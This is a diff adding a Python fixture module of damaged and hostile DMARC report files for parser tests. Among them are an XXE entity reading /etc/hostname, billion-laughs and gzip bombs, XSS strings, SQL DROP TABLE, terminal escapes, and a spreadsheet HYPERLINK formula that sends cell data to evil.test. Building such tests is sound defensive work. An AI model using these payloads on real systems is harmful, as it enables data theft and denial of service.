@@ -1,0 +1,208 @@
+"""The damaged and hostile small inputs of samples/damaged/, and what has to become of each."""
+
+import bz2
+import gzip
+import io
+import struct
+import zlib
+from xml.sax.saxutils import escape
+
+import model
+import render
+
+STORED, REJECTED, NOT = "stored", "rejected", "not_a_report"
+
+
+class Odd:
+    """A report of odd.example that is stored with warnings: what counts is kept here by hand."""
+
+    def __init__(self, reporter, day, rows):
+        self.reporter, self.day, self.rows = reporter, day, rows     # rows: (ip | None, messages, passed)
+
+    def month(self):
+        return "2026-10"
+
+
+def record(ip, count, disposition="none", dkim="fail", spf="fail", header_from="odd.example", extra="",
+           auth=None):
+    auth = auth if auth is not None else \
+        "<spf><domain>%s</domain><scope>mfrom</scope><result>%s</result></spf>" % (header_from, spf)
+    return ("  <record>\n    <row><source_ip>%s</source_ip><count>%s</count>\n"
+            "      <policy_evaluated><disposition>%s</disposition><dkim>%s</dkim><spf>%s</spf>%s"
+            "</policy_evaluated></row>\n"
+            "    <identifiers><envelope_from>%s</envelope_from><header_from>%s</header_from></identifiers>\n"
+            "    <auth_results>%s</auth_results>\n  </record>\n"
+            % (ip, count, disposition, dkim, spf, extra, header_from, header_from, auth))
+
+
+POLICY = ("  <policy_published><domain>odd.example</domain><adkim>r</adkim><aspf>r</aspf><p>none</p>"
+          "<sp>none</sp><pct>100</pct></policy_published>\n")
+
+
+def feedback(name, records, day=5, policy=POLICY, org=None, rid=None, email=None, begin=None, end=None,
+             decl='<?xml version="1.0" encoding="UTF-8"?>\n'):
+    b = model.epoch(2026, 10, day)
+    org = name + ".example" if org is None else org
+    email = "reports@%s.example" % name if email is None else email
+    rid = name + "-2026-10-%02d" % day if rid is None else rid
+    head = ("%s<feedback>\n  <version>1.0</version>\n  <report_metadata>\n%s    <email>%s</email>\n%s"
+            "    <date_range><begin>%s</begin><end>%s</end></date_range>\n  </report_metadata>\n"
+            % (decl, "    <org_name>%s</org_name>\n" % org if org else "", email,
+               "    <report_id>%s</report_id>\n" % rid if rid else "",
+               begin or b, end or b + model.DAY - 1))
+    return head + policy + "".join(records) + "</feedback>\n"
+
+
+GOOD = record("192.0.2.33", 4, dkim="pass", spf="pass", header_from="odd.example")
+
+
+def simple(name, day=5, **kw):
+    """A plain report with one record of 4 messages, to be damaged."""
+    return feedback(name, [GOOD], day, **kw).encode()
+
+
+def odd(name, day=5, rows=None, reporter=None):
+    return Odd(reporter or name + ".example", day, rows or [("192.0.2.33", 4, True)])
+
+
+def flip_zip_crc(data):
+    bad = struct.pack("<I", 0xDEADBEEF)
+    out = bytearray(data)
+    out[14:18] = bad
+    central = data.index(b"PK\1\2")
+    out[central + 16:central + 20] = bad
+    return bytes(out)
+
+
+def spaces_bomb():
+    out = io.BytesIO()
+    with gzip.GzipFile(filename="", mode="wb", compresslevel=9, fileobj=out, mtime=0) as f:
+        f.write(b'<?xml version="1.0"?>\n<feedback>')
+        for _ in range(40):
+            f.write(b" " * (1 << 20))
+    return out.getvalue()
+
+
+def nested_zip(depth):
+    data, name = simple("nested"), "report.xml"
+    for i in range(depth):
+        data, name = render.zipped((name, data)), "level%d.zip" % i
+    return data
+
+
+def odd_records():
+    return feedback("odd-records", [
+        GOOD,
+        record("108r.166.27.220", 3),
+        record("", 2),
+        record(" ::FFFF:192.0.2.44 ", 5),
+        record("192.0.2.34", -5),
+        record("192.0.2.35", "1,234"),
+        record("192.0.2.36", 7, disposition="15", dkim="softfail", spf="none"),
+        record("192.0.2.37", 2, disposition="None", dkim="Pass", spf="HardFail"),
+        record("192.0.2.38", 1, extra="<reason>sampled_out</reason><reason><type/></reason>"),
+        record("192.0.2.39", 6, auth=""),
+        "  <record>\n    <row><source_ip/><count>0</count></row>\n  </record>\n",
+        "  <record/>\n",
+    ]).encode()
+
+
+ODD_ROWS = [("192.0.2.33", 4, True), (None, 3, False), (None, 2, False), ("192.0.2.44", 5, False),
+            ("192.0.2.34", 0, False), ("192.0.2.35", 0, False), ("192.0.2.36", 7, False),
+            ("192.0.2.37", 2, True), ("192.0.2.38", 1, False), ("192.0.2.39", 6, False)]
+
+INJECTION_ORG = '=HYPERLINK("http://evil.test/?"&A1)<script>alert(1)</script>\u009b31mred\u009b0m'
+
+
+def injection():
+    comment = ('"><img src=x onerror=alert(1)> </td></table><style>*{display:none}</style> '
+               "\u009b2J\u202egnp.exe @SUM(1+1)*cmd|' /C calc'!A0 '; DROP TABLE report; -- %s%n ${x} {{7*7}}")
+    reason = "<reason><type>local_policy</type><comment>%s</comment></reason>" % escape(comment)
+    auth = ("<dkim><domain>odd.example</domain><selector>+1-1&quot;,&apos;&lt;b&gt;</selector><result>fail</result>"
+            "<human_result>-2+3\tcmd|&#x9b;31m</human_result></dkim>"
+            "<spf><domain>odd.example</domain><result>softfail</result></spf>")
+    return feedback("injection", [record("192.0.2.33", 4, extra=reason, auth=auth),
+                                  record("192.0.2.45&lt;b&gt;", 1)],
+                    org=escape(INJECTION_ORG), rid=escape("@SUM(1+1)*cmd|'/C calc'!A0<i>"),
+                    email=escape('"<svg onload=alert(1)>"@injection.example')).encode()
+
+
+def two_domains():
+    return feedback("no-policy-two", [record("192.0.2.33", 4), record("192.0.2.33", 4, header_from="other.test")],
+                    policy="").encode()
+
+
+LAUGHS = "".join('<!ENTITY l%d "%s">\n' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
+
+
+def conflict(report):
+    """The same key as `report`, but its first record told as two: other content, the same sums."""
+    first = report.records[0]
+    a, b = (model.Record(first.ip, n, first.header_from, first.mail_from, first.spf, first.dkim)
+            for n in (first.count // 2, first.count - first.count // 2))
+    return render.xml(model.Report(report.style, report.reporter, report.domain, report.begin, report.end,
+                                   report.report_id, [a, b] + report.records[1:]))
+
+
+def files():
+    """(name, bytes, outcome, Odd or None, purpose)."""
+    plain = simple
+    xxe = plain("xxe").replace(b"<feedback>", b'<!DOCTYPE feedback [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
+                               b"<feedback>", 1).replace(b"xxe.example", b"&x;", 1)
+    laughs = plain("laughs").replace(b"<feedback>", ("<!DOCTYPE feedback [<!ENTITY l0 \"ha\">\n%s]>\n<feedback>"
+                                                     % LAUGHS).encode(), 1).replace(b"laughs.example", b"&l9;", 1)
+    whole_gz = render.gz(plain("gzip"))
+    crc_gz = bytearray(render.gz(plain("gzip-crc")))
+    crc_gz[-8] ^= 0xFF
+    deep = plain("deep").replace(b"</feedback>", b"<x>" * 1000 + b"</x>" * 1000 + b"</feedback>")
+    latin1 = simple("latin1", org="Caf\xe9 del Mar").decode().encode("latin-1")
+    unescaped = feedback("unescaped", [GOOD], org="Salt & Pepper", email="<reports@unescaped.example>").encode()
+    iso = feedback("odd-dates", [GOOD], begin="2026-10-05T00:00:00Z", end="1791244799000").encode()
+    future = simple("future", begin="2145916800", end="2146003199")
+    noname = feedback("no-names", [GOOD], org="", rid="").encode()
+    return [
+        ("cut.xml.gz", whole_gz[:len(whole_gz) // 2], REJECTED, None, "gzip cut in its data"),
+        ("cut-trailer.xml.gz", render.gz(plain("cut-trailer"))[:-5], STORED, odd("cut-trailer"),
+         "gzip cut in its trailer, the XML is whole"),
+        ("wrong-crc.xml.gz", bytes(crc_gz), REJECTED, None, "gzip with a wrong checksum"),
+        ("cut.zip", render.zipped(("report.xml", plain("zip")))[:-60], REJECTED, None, "zip without its directory"),
+        ("wrong-crc.zip", flip_zip_crc(render.zipped(("report.xml", plain("zip-crc")))), REJECTED, None,
+         "zip with a wrong checksum"),
+        ("encrypted.zip", render.zip_encrypted(b"report.xml", plain("encrypted"), b"secret"), REJECTED, None,
+         "zip with an encrypted member (the password is secret)"),
+        ("nested-6-deep.zip", nested_zip(6), REJECTED, None, "zip in zip in zip, deeper than is followed"),
+        ("report.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), REJECTED, None, "the head of a 7z archive"),
+        ("report.xml.bz2", bz2.compress(plain("bzip2")), REJECTED, None, "bzip2 is no container we open"),
+        ("unused.xml.gz", render.gz(b"unused"), NOT, None, "gzip that holds the word unused"),
+        ("logo.xml.gz", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\10\6\0\0\0\x1f\x15\xc4\x89", NOT, None,
+         "a picture under the name of a report"),
+        ("cut-in-record.xml", plain("cut-record")[:-180], REJECTED, None, "ends inside a record"),
+        ("no-last-bracket.xml", plain("no-last-bracket").rstrip()[:-1], STORED, odd("no-last-bracket"),
+         "ends with </feedback, without the last bracket"),
+        ("two-documents.xml", plain("two-documents") + plain("second"), STORED, odd("two-documents"),
+         "a second document behind the first: ignored with a warning"),
+        ("wrong-root.xml", b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>News</title></channel></rss>\n',
+         NOT, None, "XML, but a news feed"),
+        ("external-entity.xml", xxe, REJECTED, None, "DOCTYPE with an external entity"),
+        ("billion-laughs.xml", laughs, REJECTED, None, "DOCTYPE with entities that grow tenfold nine times"),
+        ("deep.xml", deep, REJECTED, None, "a thousand elements inside each other"),
+        ("bomb.xml.gz", spaces_bomb(), REJECTED, None, "40 MiB of blanks inside a <feedback> that never ends"),
+        ("no-policy.xml", feedback("no-policy", [GOOD], policy="").encode(), STORED, odd("no-policy"),
+         "no policy_published; every header_from is of odd.example, which is taken"),
+        ("no-policy-two-domains.xml", two_domains(), REJECTED, None, "no policy_published, header_from of two domains"),
+        ("no-names.xml", noname, STORED, odd("no-names"), "neither org_name nor report_id"),
+        ("odd-records.xml", odd_records(), STORED, odd("odd-records", rows=ODD_ROWS),
+         "bad addresses, counts and words, an empty record and a placeholder"),
+        ("odd-dates.xml", iso, STORED, odd("odd-dates"), "begin as ISO text, end in milliseconds"),
+        ("future.xml", future, REJECTED, None, "a report of the year 2038"),
+        ("latin1.xml", latin1, STORED, odd("latin1", reporter="Caf\ufffd del Mar"),
+         "declared UTF-8, one byte of Latin-1"),
+        ("unescaped.xml", unescaped, STORED, odd("unescaped", reporter="Salt & Pepper"),
+         "a bare & in org_name and <...> around the address"),
+        ("utf-16.xml", simple("utf-16", decl='<?xml version="1.0" encoding="UTF-16"?>\n').decode().encode("utf-16-le")
+         .join([b"\xff\xfe", b""]), STORED, odd("utf-16"), "UTF-16 with a mark of byte order"),
+        ("injection.xml", injection(), STORED,
+         odd("injection", rows=[("192.0.2.33", 4, False), (None, 1, False)], reporter="injection"),
+         "markup, formulas, terminal escapes and SQL in every text"),
+        ("raw.zlib", zlib.compress(plain("zlib")), STORED, odd("zlib"), "a bare zlib stream"),
+    ]
